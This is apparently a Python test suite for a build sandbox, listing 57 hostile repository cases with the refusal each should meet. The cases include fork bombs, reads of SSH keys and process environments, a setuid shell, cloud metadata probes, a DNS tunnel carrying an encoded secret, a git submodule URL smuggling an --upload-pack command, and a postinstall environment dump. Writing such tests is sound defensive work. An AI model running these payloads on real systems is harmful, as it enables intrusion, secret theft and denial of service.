"""The corpus: 57 repositories that want to do harm, by what they want, and how each has to end."""

from collections.abc import Iterator

from tests.prove.malicious_case import (
    PAGE,
    Case,
    attempts,
    built,
    fails,
    passes,
    python,
)
from tests.prove.repository import Submodule


def corpus(port: int) -> list[Case]:
    """All 57; `port` is the cloud's first one, which a build would love to reach."""
    return [*resources(), *escapes(), *networks(port), *outputs(), *tricks(port)]


def resources() -> Iterator[Case]:
    """Seventeen that take too much: each has to be named for what it was."""
    forks = "import os\nwhile True:\n    try:\n        os.fork()\n"
    forks += "    except OSError:\n        pass\n"
    yield fails("fork-bomb", python(forks), "pids_limit")
    bomb = "bomb() { bomb | bomb & }; bomb; sleep 3\n"  # this kind starves by itself
    yield fails("shell-bomb", built(bomb), "pids_limit", "output_missing")
    threads = "import threading, time\nwhile True:\n"
    threads += "    threading.Thread(target=time.sleep, args=(20,)).start()\n"
    yield fails("threads", python(threads), "pids_limit")
    yield fails(
        "alloc-3-gib", python("kept = bytearray(3 << 30)\nkept[::4096] = b'x' * (3 << 18)"), "oom"
    )
    many = "import os, time\nfor _ in range(8):\n    if not os.fork():\n"
    many += "        kept = bytearray(b'x') * (512 << 20)\n        time.sleep(25)\n"
    many += "time.sleep(25)\n"
    yield fails("alloc-8-by-512-mib", python(many), "oom")
    yield fails("cpu-spin", built("while :; do :; done"), "timeout")
    flood = "yes $(head -c 2000 /dev/zero | tr '\\0' y)"
    yield fails("endless-stdout", built(flood), "log_limit")
    yield fails("stdout-without-newline", built("tr '\\0' x < /dev/zero"), "log_limit", "timeout")
    line = "head -c 1000000000 /dev/zero | tr '\\0' x\n"
    yield passes("line-of-1-gb", built(line + PAGE))
    yield fails("fill-tmp", built("cat /dev/zero > /tmp/full"), "disk_full", "oom")
    fill = "cat /dev/zero > /dev/{} || echo refused\n"
    yield Case("fill-dev", built(fill.format("full-of-it") + PAGE), "ready", log=("refused",))
    yield Case("fill-dev-shm", built(fill.format("shm/full") + PAGE), "ready", log=("refused",))
    yield fails("fill-workspace", built("mkdir out; cat /dev/zero > out/index.html"), "disk_full")
    inodes = "import os\nos.mkdir('out')\nfor n in range(10**7): open(f'out/{n}', 'w').close()\n"
    yield fails("inodes-10-m", python(inodes), "disk_full", "output_rejected")
    sparse = "mkdir out && truncate -s 4T out/index.html"
    yield fails("sparse-4-tb", built(sparse), "output_rejected", "build_failed")
    yield fails("sleep-past-limit", built("while :; do sleep 1; done"), "timeout")
    yield fails("ignores-term", built("trap '' TERM INT HUP; while :; do sleep 1; done"), "timeout")


def escapes() -> Iterator[Case]:
    """Fourteen that want out of the sandbox: the kernel says no, and the log tells them so."""
    yield attempts(
        "write-system",
        "for path in ('/x', '/usr/x', '/etc/x', '/opt/clouddeck/runner.pyz', '/lib/x'):",
        "    attempt('write ' + path, lambda path=path: write(path))",
        log=("refused write /x", "refused write /usr/x", "refused write /etc/x"),
    )
    yield attempts(
        "read-homes",
        "import glob",
        "own = {'/home/build'}",
        "for path in ('/root/.ssh', '/root/.aws', '/home/build/../../root/.netrc'):",
        "    attempt('read ' + path, lambda path=path: os.stat(path) and os.listdir(path))",
        "places = ('/tmp/prove-*', '/build/../*slot*', '/host/*')",
        "others = [path for place in places for path in glob.glob(place)]",
        "attempt('others', lambda: [p for p in others if p not in own] or None)",
        "attempt('homes', lambda: [p for p in glob.glob('/home/*') if p not in own] or None)",
        log=("refused read /root/.ssh", "nothing from others", "nothing from homes"),
    )
    yield attempts(
        "environ-of-pid-1",
        "def look():",
        "    text = open('/proc/1/environ').read()",
        "    return text if 'cdr_' in text or 'SECRET' in text else None",
        "attempt('environ', look)",
        log=("environ",),
    )
    yield attempts("kcore", "attempt('kcore', lambda: open('/proc/kcore', 'rb').read(9))")
    yield attempts(
        "mount", "attempt('mount', lambda: syscall(165, b'none', b'/mnt', b'tmpfs', 0, None))"
    )
    yield attempts("unshare", "attempt('unshare', lambda: syscall(272, 0x10000000 | 0x20000))")
    yield attempts("ptrace", "attempt('ptrace', lambda: syscall(101, 16, os.getppid(), 0, 0))")
    yield attempts(
        "io-uring", "attempt('io_uring', lambda: syscall(425, 8, ctypes.create_string_buffer(120)))"
    )
    yield attempts(
        "bpf", "attempt('bpf', lambda: syscall(321, 0, ctypes.create_string_buffer(128), 128))"
    )
    yield attempts("vsock", "attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))")
    yield attempts("packet", "attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW, 768))")
    yield attempts(
        "tiocsti",
        "attempt('tiocsti', lambda: fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, b'x'))",
        "attempt('tiocsti', lambda: fcntl.ioctl(0, 0x5412, b'x'))",
    )
    yield attempts(
        "setuid",
        "def become():",
        "    subprocess.run('cp /bin/sh s && chmod 6755 s', shell=True, check=True)",
        "    done = subprocess.run(['./s', '-p', '-c', 'id -u'], capture_output=True, text=True)",
        "    return done.stdout if done.stdout.strip() == '0' else None",
        "attempt('setuid shell', become)",
        "attempt('setuid', lambda: os.setuid(0) or 'root')",
    )
    yield attempts(
        "core-pattern", "attempt('core', lambda: write('/proc/sys/kernel/core_pattern'))"
    )


def networks(port: int) -> Iterator[Case]:
    """Six that want to reach somebody."""
    yield attempts(
        "imds",
        "attempt('v4', lambda: connect(socket.AF_INET, ('169.254.169.254', 80)))",
        "attempt('v6', lambda: connect(socket.AF_INET6, ('fd00:ec2::254', 80)))",
        "attempt('proxy', lambda: proxy('CONNECT 169.254.169.254:80'))",
        "attempt('name', lambda: proxy('GET http://metadata.google.internal/'))",
        log=("refused v4", "refused v6", "refused proxy", "refused name"),
    )
    yield attempts(
        "host-loopback",
        f"for port in range({port}, {port + 5}):",
        "    attempt('port', lambda p=port: connect(socket.AF_INET, ('127.0.0.1', p)))",
        "    attempt('v6', lambda p=port: connect(socket.AF_INET6, ('::1', p)))",
        f"for name in ('127.0.0.1:{port + 2}', 'localhost:{port + 4}', '0x7f.1:{port + 1}'):",
        "    attempt('proxy', lambda n=name: proxy('CONNECT ' + n))",
        log=("refused port", "refused v6", "refused proxy"),
    )
    yield attempts(
        "private-networks",
        "for host in ('10.0.0.1', '172.17.0.1', '192.168.0.1', '100.64.0.1'):",
        "    attempt(host, lambda h=host: connect(socket.AF_INET, (h, 80)))",
        "    attempt('proxy ' + host, lambda h=host: proxy('CONNECT ' + h + ':443'))",
        log=("refused 10.0.0.1", "refused 192.168.0.1", "refused proxy 172.17.0.1"),
    )
    yield attempts(
        "dns-tunnel",
        "name = 'c2VjcmV0.tunnel.example.com'",
        "attempt('resolver', lambda: socket.getaddrinfo(name, 53))",
        "attempt('datagram', lambda: connect(socket.AF_INET, ('8.8.8.8', 53), socket.SOCK_DGRAM))",
        "attempt('proxy', lambda: proxy('CONNECT ' + name + ':443'))",
        log=("refused resolver", "refused datagram", "refused proxy"),
    )
    yield attempts(
        "raw-address",
        "attempt('direct', lambda: connect(socket.AF_INET, ('1.1.1.1', 443)))",
        "attempt('proxy', lambda: proxy('CONNECT 1.1.1.1:443'))",
        log=("refused direct", "refused proxy"),
    )
    yield attempts(
        "abstract-socket",
        "names = [line.split()[-1] for line in open('/proc/net/unix') if '@' in line]",
        "print('abstract names seen:', names)",
        "for name in [*names, '@/tmp/.X11-unix/X0', '@/containerd-shim/x.sock']:",
        "    address = '\\0' + name[1:]",
        "    attempt('abstract', lambda a=address: connect(socket.AF_UNIX, a))",
        log=("abstract names seen: []", "refused abstract"),
    )


def outputs() -> Iterator[Case]:
    """Twelve folders that nobody may publish, or that must be published without harm."""
    made = "mkdir out && echo hello > out/index.html && cd out && "
    yield fails(
        "absolute-link", built(made + "ln -s /etc/passwd p"), "output_rejected", says="link"
    )
    yield fails("link-up", built(made + "ln -s ../../.. up"), "output_rejected", says="link")
    yield fails("link-loop", built(made + "ln -s a b; ln -s b a"), "output_rejected", says="link")
    yield passes("hard-link", built(made + "ln index.html two; ln /etc/passwd p && echo LEAK; :"))
    yield fails("fifo", built(made + "mkfifo pipe"), "output_rejected", says="FIFO")
    device = "for d in 'c 1 3' 'b 8 0'; do mknod d $d 2>&1 && echo LEAK $d; done; :"
    yield Case("device", built(made + device), "ready", log=("not permitted",))
    sockets = "import os, socket\nos.mkdir('out')\nsocket.socket(socket.AF_UNIX).bind('out/s')\n"
    yield fails("unix-socket", python(sockets), "output_rejected", says="socket")
    deep = "import os\nos.mkdir('out')\nos.chdir('out')\n"
    deep += "for _ in range(5000):\n    os.mkdir('d')\n    os.chdir('d')\n"
    yield fails("tree-5000-deep", python(deep), "output_rejected", says="deep")
    names = "import os\nos.mkdir('out')\nopen('out/a\\nb.html', 'w').close()\n"
    names += "open(b'out/\\xff\\xfe.html', 'w').close()\n"
    yield fails("strange-names", python(names), "output_rejected")
    clash = made + "echo upper > Page.html; echo lower > page.html"
    yield passes("case-clash", built(clash))
    locked = made + "mkdir shut && echo x > shut/x && chmod 000 shut index.html"
    yield passes("chmod-000", built(locked))
    tiny = "import os\nos.mkdir('out')\nopen('out/index.html', 'w').write('x')\n"
    tiny += "for n in range(100_000): open(f'out/{n}.html', 'w').write(str(n))\n"
    yield fails("files-100-k", python(tiny), "disk_full", "output_rejected", says="file")


def tricks(port: int) -> Iterator[Case]:
    """Eight that speak to git, to the configuration and to the tools."""
    page = {"index.html": "<h1>page</h1>"}
    module = '[submodule "m"]\n\tpath = m\n\turl = {}\n'
    yield passes(
        "submodule-file",
        {**page, ".gitmodules": module.format("file:///etc"), "m": Submodule("1" * 40)},
    )
    option = module.format("--upload-pack=touch /tmp/owned;false")
    strange = {**page, ".gitmodules": option, "m": Submodule("2" * 40)}
    yield Case("submodule-option", strange, "refused", says="disallowed submodule url")
    pointer = f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 9\n"
    lfs = {
        ".lfsconfig": "[lfs]\n\turl = http://169.254.169.254/latest\n",
        ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        "a.bin": pointer,
    }
    yield passes("lfs-to-imds", {**page, **lfs})
    hook = "#!/bin/sh\necho LEAK a hook ran\ntouch /tmp/owned\n"
    hooks = {f"{folder}/post-checkout": hook for folder in ("hooks", ".githooks")}
    config = "[core]\n\thooksPath = .githooks\n\tfsmonitor = touch /tmp/owned\n"
    look = "test -e /tmp/owned && echo LEAK a hook ran; :\n"
    yield passes("hooks", {**built(PAGE + look), **hooks, ".gitconfig": config})
    up = {"clouddeck.toml": "[build]\nroot = '../..'\ncommand = 'true'\noutput = '.'\n"}
    yield fails("root-up", up, "path_outside_root", says="inside")
    script = "env; cat /proc/*/environ | tr '\\0' '\\n'; :"
    package = f'{{"scripts": {{"postinstall": "{script}", "build": "sh build.sh"}}}}'
    package = package.replace("\\0", "\\\\0").replace("\\n'", "\\\\n'")
    yield passes(
        "postinstall-environ",
        {"package.json": package, "build.sh": "mkdir -p dist && echo x > dist/index.html\n"},
    )
    yield attempts(
        "cache-poison",
        "for kind in ('trusted', 'untrusted'):",
        "    for key in ('0' * 64, 'npm', 'dependencies'):",
        f"        path = '127.0.0.1:{port + 3}/clouddeck-sources/caches/p/' + kind + '/' + key",
        "        attempt('store', lambda p=path: proxy('PUT http://' + p + '.tar.gz'))",
        f"attempt('api', lambda: proxy('POST http://127.0.0.1:{port}/v1/runner/cache'))",
        log=("refused store", "refused api"),
    )
    daemon = "(trap '' TERM HUP INT; setsid sh -c 'trap \"\" TERM HUP; sleep 600; :' &)\n"
    yield passes("daemon", built(daemon * 10 + PAGE))
